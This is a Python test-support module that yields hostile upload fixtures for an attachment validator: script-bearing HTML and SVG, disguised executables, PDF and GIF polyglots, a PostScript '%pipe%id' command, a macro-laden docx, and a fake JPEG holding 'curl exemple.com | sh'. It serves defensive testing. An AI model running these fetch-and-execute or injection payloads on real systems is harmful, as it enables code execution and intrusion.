"""What nobody should be able to attach to anything, at least not as it is."""

import zipfile
from collections.abc import Iterator
from io import BytesIO

from tests.support.hostile_pdfs import hostile_pdfs
from tests.support.hostile_pictures import SCRIPT, hostile_pictures

_HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def hostile_files() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the content of each, made when it is asked for."""
    yield from hostile_pictures()
    yield from hostile_pdfs()
    yield from _others()


def _others() -> Iterator[tuple[str, bytes]]:
    """Yield what is neither a picture nor a PDF, whatever its name says."""
    yield "page.html", _HTML
    yield "page.jpg", _HTML
    yield "page.pdf", _HTML
    yield "drawing.svg", _SVG
    yield "drawing.png", _SVG
    yield "drawing.pdf", b"  " + _SVG
    yield "program.exe", b"MZ" + b"\x90" * 3000
    yield "program.pdf", b"\x7fELF" + b"\0" * 3000
    yield "script.jpg", b"#!/bin/sh\ncurl exemple.com | sh\n"
    yield "pdf-behind-something.pdf", b"GIF89a %PDF-1.7\n1 0 obj <<>> endobj"
    yield "pdf-behind-a-mark.pdf", b"\xef\xbb\xbf%PDF-1.7\n"
    yield "picture.gif", b"GIF89a" + b"\x01\0\x01\0" + b"\0" * 300
    yield "script.gif", b"GIF89a=1;alert(1)//" + b"\0" * 300
    yield "picture.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 300
    yield "picture.tiff", b"II*\0\x08\0\0\0" + b"\xff" * 300
    yield "picture.heic", b"\0\0\0\x18ftypheic" + b"\0" * 300
    yield "letter.docx", _zipped()
    yield "letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield "page.ps", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"
    yield "words.txt", "Bonjour, voici mon relevé.".encode()
    yield "nothing.pdf", b""
    yield "too-much.pdf", b"%PDF-1.7\n" + b"\0" * (5 * 2**20)
    yield "too-much.jpg", b"\xff\xd8\xff\xe0" + b"\0" * (5 * 2**20)


def _zipped() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/vbaProject.bin", b"Sub AutoOpen()" * 1000)
    return made.getvalue()
